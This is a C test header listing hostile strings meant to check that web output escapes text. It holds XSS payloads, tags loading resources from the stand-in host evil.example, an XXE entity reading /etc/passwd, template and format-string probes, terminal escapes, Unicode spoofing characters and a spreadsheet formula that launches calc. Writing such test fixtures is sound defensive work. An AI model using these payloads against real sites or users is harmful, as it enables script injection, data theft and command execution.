/*
 * Texts that try to become markup, leave an attribute, or turn a line around. Each is harmless
 * only if it stays text. Tags, names and error messages can hold all of them.
 */
#ifndef TESTS_WEB_HOSTILE_H
#define TESTS_WEB_HOSTILE_H

static const char *const hostile[] = {
	"<script>alert(1)</script>",
	"</title><script>alert(1)</script>",
	"</style><script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	"<img src=x onerror=alert(1)//",
	"\"><svg onload=alert(1)>",
	"' onmouseover='alert(1)",
	"\" onmouseover=\"alert(1)",
	"\" autofocus onfocus=\"alert(1)",
	"\"/><iframe src=javascript:alert(1)>",
	"</svg><foreignObject><body onload=alert(1)>",
	"</desc></svg><math><mi xlink:href=\"javascript:alert(1)\">",
	"<svg><animate onbegin=alert(1) attributeName=x>",
	"--><script>alert(1)</script><!--",
	"<!--",
	"]]><script>alert(1)</script><![CDATA[",
	"<![CDATA[<script>alert(1)</script>]]>",
	"<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
	"&lt;script&gt;alert(1)&lt;/script&gt;",
	"&#60;script&#62;alert(1)&#60;/script&#62;",
	"&#x3C;script>",
	"&amp;lt;b&amp;gt;",
	"&quot;&gt;&lt;b",
	"javascript:alert(1)",
	"data:text/html,<script>alert(1)</script>",
	"<a href=\"javascript:alert(1)\">x</a>",
	"<base href=//evil.example/>",
	"<meta http-equiv=refresh content=0;url=//evil.example>",
	"<link rel=stylesheet href=//evil.example/x.css>",
	"<style>@import '//evil.example/x.css'</style>",
	"<form action=//evil.example><input name=x>",
	"<object data=//evil.example></object>",
	"<template><script>alert(1)</script></template>",
	"<textarea>",
	"<plaintext>",
	"<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
	"%s%s%n%x%p%%",
	"${7*7}{{7*7}}<%= 7*7 %>#{7*7}",
	"\x1b[31mred\x1b[0m\x1b]0;title\x07",
	"line\nbreak\r\nand\ttab\x0c\x0b\b\x7f",
	"\xc2\x9b"
	"31m\xc2\x85",
	"\xe2\x80\xae"
	"gpj.exe\xe2\x80\xac",
	"\xe2\x81\xa6right\xe2\x81\xa9\xd8\x9c\xe2\x80\x8e\xe2\x80\x8f",
	"in\xe2\x80\x8bvis\xe2\x80\x8cib\xe2\x80\x8dle\xe2\x81\xa0\xef\xbb\xbf",
	"\xe2\x80\xa8line\xe2\x80\xa9paragraph",
	"\xff\xfe\x80\xc0\xafoverlong\xc0\xbcscript\xc0\xbe",
	"\xed\xa0\x80surrogate\xf4\x90\x80\x80",
	"cut off \xe2\x80",
	"cut off with a quote \xe2\x80\"",
	"cut off with an angle \xf0\x9f<b>",
	"\xef\xbc\x9cscript\xef\xbc\x9e",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	"=cmd|' /C calc'!A0",
	"\\\"><b>\\x3cscript\\x3e",
	"`onload=alert(1)`",
};

#endif
